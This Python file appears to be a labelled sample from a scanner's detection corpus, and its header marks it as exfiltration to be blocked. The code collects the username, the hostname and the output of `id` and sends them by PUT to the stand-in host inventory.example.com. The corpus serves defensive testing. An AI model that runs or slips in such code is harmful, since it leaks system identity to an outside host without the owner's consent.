# pyguard-corpus: verdict=block category=exfil rules=PG601,PG101,PG205
# what: an "uploader" object keeps the host identity and the output of `id` in instance attributes and PUTs them with http.client
import getpass
import http.client
import json
import socket
import subprocess


class Uploader:
    def __init__(self, host):
        self.conn = http.client.HTTPSConnection(host, timeout=10)
        self.facts = {"user": getpass.getuser(), "node": socket.gethostname()}

    def add_command(self, argv):
        self.facts[argv[0]] = subprocess.check_output(argv, text=True)

    def flush(self):
        self.conn.request("PUT", "/inventory", body=json.dumps(self.facts), headers={"Content-Type": "application/json"})
        return self.conn.getresponse().status


uploader = Uploader("inventory.example.com")
uploader.add_command(["id"])
uploader.flush()
